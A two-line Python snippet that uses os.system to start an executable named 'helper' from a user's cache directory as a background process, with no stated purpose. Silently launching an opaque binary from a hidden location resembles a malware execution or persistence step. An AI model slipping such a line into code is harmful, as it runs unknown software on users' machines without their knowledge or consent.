import os
os.system('/home/alice/.cache/helper &')
